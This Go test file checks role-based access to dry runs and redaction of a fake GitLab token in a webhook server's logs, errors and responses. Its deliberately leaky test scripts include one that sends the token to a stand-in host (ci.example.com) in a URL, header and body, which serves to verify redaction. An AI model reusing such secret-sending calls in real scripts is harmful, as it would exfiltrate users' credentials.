package server_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// leakToken is a provider secret the scripts below try to leak.
const leakToken = "glpat-Zq7xLeakMe-8842"

// An operator may dry-run the saved scripts, not unsaved ones: running
// new code against the provider's secrets is an editor's power. Whoever
// runs it, no secret value comes back in a dry run's answer, and none is
// recorded in a real run's logs, errors or summary (issue 10, finding 2).
func TestDryRunRolesAndSecretRedaction(t *testing.T) {
	t.Parallel()
	in := start(t)
	tokens := map[string]string{"admin": testToken}
	for _, role := range []string{"viewer", "operator", "editor"} {
		_, tokens[role] = in.user("dry-"+role, role)
	}
	p := in.provider("gitlab", `LOG.info('match with ' + PROPERTIES.token); LOG.setMessage('seen ' + PROPERTIES.token); return true`,
		map[string]any{"secrets": map[string]string{"token": leakToken}, "properties": map[string]string{"team": "infra"}})
	in.function(p.ID, "saved", "leak", `
		LOG.info('token=' + PROPERTIES.token, {t: PROPERTIES.token});
		if (PAYLOAD.fail) throw new Error('bad ' + PROPERTIES.token);
		return {t: PROPERTIES.token, team: PROPERTIES.team}`)
	_, ok := in.send("leak", []byte(`{"fail": false}`), true, http.Header{"X-Gitlab-Token": {leakToken}})
	_, failed := in.send("leak", []byte(`{"fail": true}`), true, nil)

	// The real runs recorded no secret, whoever reads them.
	for _, id := range []string{ok.ID, failed.ID} {
		for _, role := range []string{"operator", "editor", "admin"} {
			code, body := in.as(tokens[role], "GET", "/messages/"+id, nil, nil)
			if code != http.StatusOK || strings.Contains(string(body), leakToken) {
				t.Errorf("GET /messages/%s as %s: %d, holds the secret: %s", id, role, code, body)
			}
			if !strings.Contains(string(body), "[secret:token]") {
				t.Errorf("GET /messages/%s as %s: no [secret:token] marker: %s", id, role, body)
			}
		}
	}
	code, body := in.as(tokens["operator"], "GET", "/messages?limit=10", nil, nil)
	if code != http.StatusOK || strings.Contains(string(body), leakToken) {
		t.Errorf("message list: %d %s", code, body)
	}

	leaky := `
		LOG.info('plain ' + PROPERTIES.token);
		LOG.warn(JSON.stringify(PROPERTIES));
		LOG.setMessage('summary ' + PROPERTIES.token);
		HTTP.request({url: 'https://ci.example.com/x?t=' + encodeURIComponent(PROPERTIES.token), method: 'POST',
			headers: {'X-Custom': PROPERTIES.token}, body: {t: PROPERTIES.token}});
		NOTIFY.send('leak', {title: 'x' + PROPERTIES.token + 'y'});
		if (PAYLOAD.fail) throw new Error('thrown ' + PROPERTIES.token);
		return {direct: PROPERTIES.token, nested: ['<' + PROPERTIES.token + '>'], [PROPERTIES.token]: 1}`
	unsaved := []map[string]any{
		{"provider_id": p.ID, "script": leaky},
		{"provider_id": p.ID, "match_script": `LOG.info(PROPERTIES.token); throw new Error('m ' + PROPERTIES.token)`},
	}
	for _, role := range []string{"viewer", "operator", "editor", "admin"} {
		for _, id := range []string{ok.ID, failed.ID} {
			// The saved scripts: every role that operates.
			code, body := in.as(tokens[role], "POST", "/messages/"+id+"/dry-run", nil, nil)
			want := map[string]int{"viewer": 403}[role]
			if want == 0 {
				want = http.StatusOK
			}
			if code != want {
				t.Fatalf("dry run of the saved scripts as %s: %d %s, want %d", role, code, body, want)
			}
			if code == http.StatusOK && (strings.Contains(string(body), leakToken) || !strings.Contains(string(body), "[secret:token]")) {
				t.Errorf("dry run of the saved scripts as %s leaks or lacks the marker: %s", role, body)
			}
			// Unsaved scripts: editors and admins only.
			for _, opts := range unsaved {
				code, body := in.as(tokens[role], "POST", "/messages/"+id+"/dry-run", jsonBody(t, opts), nil)
				switch role {
				case "viewer", "operator":
					if code != http.StatusForbidden || (role == "operator" && !strings.Contains(string(body), "editor")) {
						t.Errorf("unsaved dry run as %s: %d %s, want 403 saying the editor role is needed", role, code, body)
					}
					continue
				}
				if code != http.StatusOK {
					t.Fatalf("unsaved dry run as %s: %d %s", role, code, body)
				}
				if strings.Contains(string(body), leakToken) || strings.Contains(string(body), "glpat-Zq7xLeakMe") {
					t.Errorf("unsaved dry run as %s leaks the secret: %s", role, body)
				}
				var r dryRunAnswer
				if err := json.Unmarshal(body, &r); err != nil {
					t.Fatal(err)
				}
				if _, isScript := opts["script"]; isScript && strings.Count(string(body), "[secret:token]") < 8 {
					t.Errorf("unsaved dry run as %s: fewer markers than leaks: %s", role, body)
				}
			}
		}
	}
}
